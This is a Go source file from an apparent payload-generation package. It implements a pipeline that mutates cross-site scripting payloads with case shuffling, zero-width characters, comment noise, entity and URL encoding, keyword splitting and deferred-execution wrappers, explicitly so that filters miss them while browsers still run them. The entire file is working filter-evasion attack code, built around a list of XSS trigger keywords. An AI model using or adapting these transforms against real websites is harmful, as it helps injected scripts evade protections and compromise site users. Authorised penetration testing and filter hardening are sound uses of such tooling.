/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: evasions.go
Description: Evasion transform pipeline. Each transform rewrites a payload so that naive
pattern-matching filters miss it while at least one browser parsing context still
accepts it. All randomness comes from the pipeline's own seeded source so a run can
be reproduced end to end.
*/

package payloads

import (
	"fmt"
	"math/rand"
	"regexp"
	"strings"
	"unicode"
)

// zeroWidth characters are dropped by many filters' normalisers but not by their regexes
var zeroWidth = []string{"\u200b", "\u200c", "\u200d"}

// Keywords that commonly trigger filters
var Keywords = []string{
	"script", "onerror", "onload", "onmouseover", "onfocus", "oninput",
	"onclick", "onmouseenter", "onmouseleave", "alert", "prompt", "confirm",
	"javascript", "srcdoc",
}

var (
	keywordRe = regexp.MustCompile(`(?i)(` + strings.Join(quoteAll(Keywords), "|") + `)`)
	jsLikeRe  = regexp.MustCompile(`[;(){}=]`)
)

var entityTable = map[rune][]string{
	'<':  {"&lt;", "&#60;", "&#x3c;"},
	'>':  {"&gt;", "&#62;", "&#x3e;"},
	'"':  {"&quot;", "&#34;", "&#x22;"},
	'\'': {"&#39;", "&#x27;"},
	'/':  {"&#47;", "&#x2f;"},
	'=':  {"&#61;", "&#x3d;"},
	'(':  {"&#40;", "&#x28;"},
	')':  {"&#41;", "&#x29;"},
}

// Pipeline applies the evasion transforms. It is not safe for concurrent use.
type Pipeline struct {
	rng *rand.Rand

	CaseProbability  float64 // per-letter flip probability
	ZeroWidthDensity float64 // probability of a zero-width char between two alphanumerics
	CommentEvery     int     // chunk size for HTML comment noise
}

// NewPipeline creates a pipeline driven by rng
func NewPipeline(rng *rand.Rand) *Pipeline {
	return &Pipeline{
		rng:              rng,
		CaseProbability:  0.45,
		ZeroWidthDensity: 0.20,
		CommentEvery:     5,
	}
}

// Expand returns the original payload followed by every transform's output,
// deduplicated in first-seen order.
func (p *Pipeline) Expand(payload string) []string {
	variants := []string{
		payload,
		p.CaseShuffle(payload),
		p.InsertZeroWidth(payload),
		p.HTMLCommentNoise(payload),
		JSCommentNoise(payload),
		p.EntityMangle(payload),
		URLMangle(payload),
		p.KeywordSplit(payload),
	}
	if LooksLikeJS(payload) {
		variants = append(variants, DeferredWrappers(payload)...)
	}
	return Dedupe(variants)
}

// CaseShuffle toggles letter case with the configured probability
func (p *Pipeline) CaseShuffle(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for _, r := range s {
		if unicode.IsLetter(r) && p.rng.Float64() < p.CaseProbability {
			if unicode.IsLower(r) {
				r = unicode.ToUpper(r)
			} else {
				r = unicode.ToLower(r)
			}
		}
		b.WriteRune(r)
	}
	return b.String()
}

// InsertZeroWidth places invisible characters between adjacent alphanumerics
func (p *Pipeline) InsertZeroWidth(s string) string {
	runes := []rune(s)
	if len(runes) == 0 {
		return s
	}
	var b strings.Builder
	b.WriteRune(runes[0])
	for i := 1; i < len(runes); i++ {
		if isAlnum(runes[i-1]) && isAlnum(runes[i]) && p.rng.Float64() < p.ZeroWidthDensity {
			b.WriteString(zeroWidth[p.rng.Intn(len(zeroWidth))])
		}
		b.WriteRune(runes[i])
	}
	return b.String()
}

// HTMLCommentNoise splices <!--x--> markers between fixed-size chunks
func (p *Pipeline) HTMLCommentNoise(s string) string {
	if s == "" {
		return s
	}
	every := p.CommentEvery
	if every <= 0 {
		every = 5
	}
	runes := []rune(s)
	var b strings.Builder
	for i := 0; i < len(runes); i += every {
		end := i + every
		if end > len(runes) {
			end = len(runes)
		}
		b.WriteString("<!--x-->")
		b.WriteString(string(runes[i:end]))
	}
	return b.String()
}

// JSCommentNoise wraps sensitive keywords in /**/ markers
func JSCommentNoise(s string) string {
	return keywordRe.ReplaceAllString(s, "/**/$1/**/")
}

// EntityMangle encodes meta-characters with a random named/decimal/hex entity each
func (p *Pipeline) EntityMangle(s string) string {
	var b strings.Builder
	for _, r := range s {
		if choices, ok := entityTable[r]; ok {
			b.WriteString(choices[p.rng.Intn(len(choices))])
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

// URLMangle percent-encodes every byte outside ALPHA / DIGIT / "-._~"
func URLMangle(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x80 && (isAlnum(rune(c)) || strings.IndexByte("-._~", c) >= 0) {
			b.WriteByte(c)
			continue
		}
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

// KeywordSplit breaks each hot keyword in two with a separator browsers tend to ignore,
// keeping the keyword's original case pattern.
func (p *Pipeline) KeywordSplit(s string) string {
	return keywordRe.ReplaceAllStringFunc(s, func(word string) string {
		seps := []string{"/**/", "<!--x-->", "\n", zeroWidth[p.rng.Intn(len(zeroWidth))]}
		sep := seps[p.rng.Intn(len(seps))]
		// case folding can match non-ASCII runes such as U+017F, so split on runes
		runes := []rune(word)
		mid := len(runes) / 2
		if mid < 1 {
			mid = 1
		}
		return string(runes[:mid]) + sep + string(runes[mid:])
	})
}

// LooksLikeJS reports whether a payload resembles a bare JS statement
func LooksLikeJS(s string) bool {
	return jsLikeRe.MatchString(s)
}

// DeferredWrappers wraps a JS snippet in setTimeout, an IIFE and the Function constructor
func DeferredWrappers(js string) []string {
	escaped := strings.ReplaceAll(strings.ReplaceAll(js, `\`, `\\`), `'`, `\'`)
	return []string{
		"setTimeout(function(){" + js + "},10)",
		"(()=>{" + js + "})()",
		"Function('','" + escaped + "')()",
	}
}

// Dedupe removes repeats keeping the first occurrence
func Dedupe(in []string) []string {
	seen := make(map[string]struct{}, len(in))
	out := make([]string, 0, len(in))
	for _, s := range in {
		if _, ok := seen[s]; ok {
			continue
		}
		seen[s] = struct{}{}
		out = append(out, s)
	}
	return out
}

func isAlnum(r rune) bool {
	return unicode.IsLetter(r) || unicode.IsDigit(r)
}

func quoteAll(words []string) []string {
	out := make([]string, len(words))
	for i, w := range words {
		out[i] = regexp.QuoteMeta(w)
	}
	return out
}
